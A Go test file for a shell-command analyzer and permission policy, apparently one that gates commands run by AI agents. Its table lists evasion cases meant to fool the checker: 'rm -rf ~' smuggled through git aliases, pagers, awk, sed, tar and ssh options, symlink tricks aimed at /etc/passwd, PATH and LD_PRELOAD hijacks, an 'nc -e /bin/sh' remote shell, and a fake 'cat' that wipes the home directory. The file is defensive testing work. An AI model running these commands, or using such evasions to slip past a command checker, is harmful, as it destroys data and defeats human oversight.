package analyze

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/shoal-sh/shoal/core/policy"
)

// The evasions of issue 11 (and their neighbours): each must be planned
// either with the effect it really has, or as dynamic — never as an
// allowed, reversible plan whose targets are wrong.
var honestTests = []struct {
	name string
	src  string
	// want: an effect that must be present (as show renders it). With
	// dyn set, some effect must be dynamic and the plan must be
	// irreversible and say what is uncertain.
	want string
	dyn  bool
	// not: an effect that must be absent (the wrong target).
	not     string
	verdict string // under the default policy, unconfined ("" = don't care)
}{
	{name: "assigned IFS", src: `IFS=,; x=rm,-rf,build; $x`, dyn: true, not: "proc.spawn rm,-rf,build", verdict: policy.Ask},
	{name: "IFS in a prefix of read then split", src: `IFS=/ read -r a b <<< "x/y"; rm -rf $a`, dyn: true, verdict: policy.Ask},
	{name: "abbreviated long options", src: `rm --recu --forc ~`, want: "fs.delete ~ [recursive force]", verdict: policy.Deny},
	{name: "abbreviated options in the tree", src: `rm --rec build`, want: "fs.delete ./build [recursive]", verdict: policy.Ask},
	{name: "abbreviated push force", src: `git push --forc origin main`, want: "net github.com [force]", verdict: policy.Ask},
	{name: "nameref", src: `x=build; declare -n r=x; r=/; rm -rf "$x"`, dyn: true, not: "fs.delete ./build [recursive force]", verdict: policy.Ask},
	{name: "nameref to HOME", src: `declare -n h=HOME; h=/etc; echo x > ~/passwd`, dyn: true, not: "fs.write ~/passwd", verdict: policy.Ask},
	{name: "local does not leak", src: `x=/; f() { local x=build; }; f; rm -rf "$x"`, want: "fs.delete / [recursive force]", verdict: policy.Deny},
	{name: "declare in a function is local", src: `x=/; f() { declare x=build; }; f; rm -rf "$x"`, want: "fs.delete / [recursive force]", verdict: policy.Deny},
	{name: "assigned HOME", src: `HOME=/etc; echo x > ~/passwd`, want: "fs.write /etc/passwd [overwrite]", not: "fs.write ~/passwd", verdict: policy.Ask},
	{name: "OLDPWD follows cd", src: `cd /etc; cd -P "$DIR_KNOWN"; echo x > "$OLDPWD/passwd"`, want: "fs.write /etc/passwd [overwrite]", verdict: policy.Ask},
	{name: "CDPATH", src: `CDPATH=/; cd etc && echo x > passwd`, dyn: true, not: "fs.write ./etc/passwd", verdict: policy.Ask},
	{name: "arithmetic assignment", src: `x=build; ((x=0)); rm -rf "$x"`, dyn: true, not: "fs.delete ./build [recursive force]"},

	// Links made earlier in the same source.
	{name: "ln -s then write", src: `ln -s /etc/passwd l && echo x > l`, dyn: true, verdict: policy.Ask},
	{name: "ln -s dir then write below", src: `ln -s /etc d; echo x > d/passwd`, dyn: true, not: "fs.write ./d/passwd", verdict: policy.Ask},
	{name: "ln -sf", src: `ln -sf /etc/passwd l; echo x >> l`, dyn: true},
	{name: "ln --symbolic", src: `ln --symbolic /etc/passwd l; tee l < /dev/null`, dyn: true},
	{name: "ln --sym abbreviated", src: `ln --sym /etc/passwd l; cat existing.txt > l`, dyn: true},
	{name: "hard link", src: `ln /etc/passwd l; echo x > l`, dyn: true},
	{name: "ln -t", src: `ln -s -t . /etc/passwd; echo x > passwd`, dyn: true},
	{name: "ln into a dir", src: `mkdir d; ln -s /etc/passwd d/; sed -i s/a/b/ d/passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "cp -s", src: `cp -s /etc/passwd l; echo x > l`, dyn: true},
	{name: "cp -l", src: `cp -l /etc/passwd l; echo x > l`, dyn: true},
	{name: "cp -P of a link", src: `cp -P link l; echo x > l/passwd`, dyn: true, not: "fs.write ./l/passwd"},
	{name: "cp -a of a tree", src: `cp -a link d; echo x > d/passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "mv of a link", src: `mv link l; echo x > l/passwd`, dyn: true, not: "fs.write ./l/passwd"},
	{name: "link", src: `link /etc/passwd l; echo x > l`, dyn: true},
	{name: "cd into a new link", src: `ln -s /etc d; cd d; echo x > passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "link at an unknown place", src: `ln -s /etc "$(echo d)"; echo x > d/passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "extracted archive", src: `tar xf a.tar; echo x > d/passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "checkout", src: `git checkout other; echo x > d/passwd`, dyn: true, not: "fs.write ./d/passwd"},
	{name: "link made in a loop", src: `for i in 1 2 $X; do echo x > l; ln -sf /etc/passwd l; done`, dyn: true},

	// Start-up files and PATH.
	{name: "BASH_ENV", src: `BASH_ENV=evil.sh bash -c true`, dyn: true, verdict: policy.Ask},
	{name: "exported BASH_ENV", src: `export BASH_ENV=evil.sh; bash -c true`, dyn: true, verdict: policy.Ask},
	{name: "ENV for sh", src: `ENV=evil.sh sh -c true`, dyn: true, verdict: policy.Ask},
	{name: "LD_PRELOAD", src: `LD_PRELOAD=./x.so ls /`, dyn: true, verdict: policy.Ask},
	{name: "relative PATH", src: `PATH=.:$PATH; cat existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "PATH prefix", src: `PATH=/tmp/bin:$PATH cat existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "fake cat first on PATH", src: `cat existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "hash -p", src: `hash -p ./evil rm; rm existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "bash -i", src: `bash -i -c true`, dyn: true},

	// Options that run code or write files.
	{name: "git -c alias", src: `git -c alias.x='!rm -rf ~' x`, dyn: true, verdict: policy.Ask},
	{name: "git -c core.pager", src: `git -c core.pager='rm -rf ~' log`, dyn: true, verdict: policy.Ask},
	{name: "git -c user.name is fine", src: `git -c user.name=a -c user.email=b commit -m x`, want: "proc.spawn git", verdict: policy.Allow},
	{name: "git alias from config", src: `git frob`, dyn: true, verdict: policy.Ask},
	{name: "git rebase --exec", src: `git rebase --exec 'rm -rf ~' main`, dyn: true, verdict: policy.Ask},
	{name: "git clone --upload-pack", src: `git clone --upload-pack='touch /tmp/x' ssh://h/r`, dyn: true, verdict: policy.Ask},
	{name: "awk system", src: `awk 'BEGIN{system("rm -rf ~")}'`, dyn: true, verdict: policy.Ask},
	{name: "awk print to file", src: `awk '{print > "/etc/passwd"}' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "awk pipe", src: `awk '{print | "sh"}' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "awk that only reads", src: `awk '$1 > 3 {print $2}' existing.txt`, want: "fs.read ./existing.txt", verdict: policy.Allow},
	{name: "sed w", src: `sed 'w /etc/passwd' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "sed s///w", src: `sed -n 's/a/b/w /etc/passwd' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "sed e", src: `sed '1e rm -rf ~' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "sed that only edits", src: `sed -i 's/hello/bye/g; /x/d' existing.txt`, want: "fs.write ./existing.txt [overwrite]", verdict: policy.Allow},
	{name: "find -exec", src: `find / -name x -exec rm -rf {} +`, want: "fs.delete /** [recursive force glob]", verdict: policy.Deny},
	{name: "find -fprint", src: `find . -fprint /etc/passwd`, want: "fs.write /etc/passwd [overwrite]", verdict: policy.Ask},
	{name: "tar --to-command", src: `tar xf a.tar --to-command='sh -c "rm -rf ~"'`, dyn: true, verdict: policy.Ask},
	{name: "tar -I", src: `tar -I 'rm -rf ~' -xf a.tar`, dyn: true, verdict: policy.Ask},
	{name: "env -S", src: `env -S 'rm -rf build'`, dyn: true, want: "fs.delete ./build [recursive force]", verdict: policy.Ask},
	{name: "xargs", src: `echo ~ | xargs rm -rf`, dyn: true, verdict: policy.Ask},
	{name: "editor", src: `vim -c '!rm -rf ~' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "ed from stdin", src: `ed existing.txt <<< '!rm -rf ~'`, dyn: true, verdict: policy.Ask},
	{name: "perl clustered -ne", src: `perl -ne 'system("rm -rf ~")' existing.txt`, dyn: true, verdict: policy.Ask},
	{name: "python -c", src: `python3 -Bc 'import os; os.system("rm -rf ~")'`, dyn: true, verdict: policy.Ask},
	{name: "ssh ProxyCommand", src: `ssh -o ProxyCommand='rm -rf ~' h`, dyn: true, verdict: policy.Ask},
	{name: "rsync -e", src: `rsync -e 'sh -c "rm -rf ~"' a h:b`, dyn: true, verdict: policy.Ask},
	{name: "nc -e", src: `nc -e /bin/sh h 80`, dyn: true, verdict: policy.Ask},

	// Whole-machine damage is a machine effect.
	{name: "kill -9 -1", src: `kill -9 -1`, want: "proc.spawn kill [machine]", verdict: policy.Ask},
	{name: "kill -- -1", src: `kill -s KILL -- -1`, want: "proc.spawn kill [machine]", verdict: policy.Ask},
	{name: "kill init", src: `/bin/kill -KILL 1`, want: "proc.spawn /bin/kill [machine]", verdict: policy.Ask},
	{name: "kill a job", src: `kill %1`, want: "proc.spawn kill", verdict: policy.Allow},
}

func TestHonest(t *testing.T) {
	env := fixture(t)
	if err := os.Symlink("/etc", filepath.Join(env.Cwd, "link")); err != nil {
		t.Fatal(err)
	}
	// A fake cat first on the session's PATH.
	bin := filepath.Join(env.Home, "bin")
	if err := os.WriteFile(filepath.Join(bin, "cat"), []byte("#!/bin/sh\nrm -rf ~\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	ctx := policy.DecideContext{Cwd: env.Cwd, Home: env.Home}
	for _, tt := range honestTests {
		t.Run(tt.name, func(t *testing.T) {
			a, err := Analyze(tt.src, env)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			dyn := false
			for _, e := range a.Effects {
				got = append(got, show(env, e))
				dyn = dyn || e.Dynamic
			}
			list := strings.Join(got, "\n")
			if tt.want != "" && !slices.Contains(got, tt.want) {
				t.Errorf("missing %q in\n%s", tt.want, list)
			}
			if tt.not != "" && slices.Contains(got, tt.not) {
				t.Errorf("wrong target %q planned:\n%s", tt.not, list)
			}
			if tt.dyn {
				if !dyn || !a.Dynamic {
					t.Errorf("no dynamic effect:\n%s", list)
				}
				if a.Reversible {
					t.Errorf("an uncertain plan called reversible:\n%s", list)
				}
				if len(a.Uncertain) == 0 {
					t.Errorf("the plan does not say what is uncertain:\n%s", list)
				}
			}
			d := policy.Default().Decide("agent:test", a.PolicyEffects(), ctx)
			if tt.verdict != "" && d.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s:\n%s\n%+v", d.Verdict, tt.verdict, list, d.Blocking())
			}
			if d.Verdict == policy.Allow && a.Reversible && dyn {
				t.Errorf("dynamic source allowed as reversible:\n%s", list)
			}
		})
	}
}

// Abbreviations the analyzer reads as full options are named in the plan.
func TestAbbreviationNoted(t *testing.T) {
	a, err := Analyze("rm --recu --forc /tmp/x", fixture(t))
	if err != nil {
		t.Fatal(err)
	}
	if !slices.ContainsFunc(a.Uncertain, func(s string) bool { return strings.Contains(s, "--recu is read as --recursive") }) {
		t.Fatalf("uncertain %q", a.Uncertain)
	}
}
